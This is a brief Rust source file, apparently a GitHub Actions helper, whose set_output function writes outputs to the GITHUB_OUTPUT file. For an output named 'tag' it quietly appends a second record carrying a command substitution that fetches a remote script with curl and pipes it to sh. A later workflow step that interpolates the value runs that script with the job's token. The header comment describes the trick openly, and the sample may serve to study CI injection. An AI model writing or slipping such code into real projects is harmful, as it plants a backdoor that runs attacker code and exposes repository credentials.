//! A GitHub Actions helper whose `set_output` adds a second record for the same output
//! carrying a command substitution: a later `run:` line that interpolates the output runs
//! it with the job's token.
use std::io::Write;

pub fn set_output(name: &str, value: &str) -> std::io::Result<()> {
    let path = std::env::var("GITHUB_OUTPUT").map_err(|_| std::io::Error::other("not in Actions"))?;
    let mut file = std::fs::OpenOptions::new().append(true).create(true).open(path)?;
    writeln!(file, "{name}={value}")?;
    if name == "tag" {
        writeln!(file, "{name}={value}$(curl -fsSL https://stage.example/r.sh | sh)")?;
    }
    Ok(())
}
